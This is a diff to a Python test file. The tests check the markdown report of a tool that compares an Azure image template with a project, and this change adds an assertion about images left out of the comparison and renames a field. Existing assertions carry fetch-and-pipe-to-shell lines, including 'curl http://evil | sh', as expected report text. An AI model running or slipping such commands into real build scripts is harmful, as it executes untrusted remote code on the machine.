@@ -54,12 +54,13 @@ def test_markdown_has_a_verdict_a_table_and_lines_to_unfold() -> None:
     assert "| ~ | `vmProfile` `vmSize` | `Standard_D2s_v3` | `Standard_D4s_v3` | the project was edited |" in text
     assert "`curl -fsSL https://example.com/docker.sh \\| sh`" in text
     assert '```diff\n echo "home is ${HOME}"\n+curl http://evil | sh\n```\n\n</details>\n' in text
+    assert "\nOf other images, not compared: `source.azure-arm.other`.\n" in text
     assert "cut at" not in text
 
 
 def test_markdown_of_what_is_the_same_is_one_line() -> None:
     comparison = beside_a_project()
-    same = replace(comparison, rows=tuple(row for row in comparison.rows if row.verdict is Verdict.SAME), made_by="", stale=())
+    same = replace(comparison, rows=tuple(row for row in comparison.rows if row.verdict is Verdict.SAME), made_by="", left_out=())
     assert as_markdown(same) == "**Same as the template.** `template.json ↔ web`: 3 same.\n"
 
 
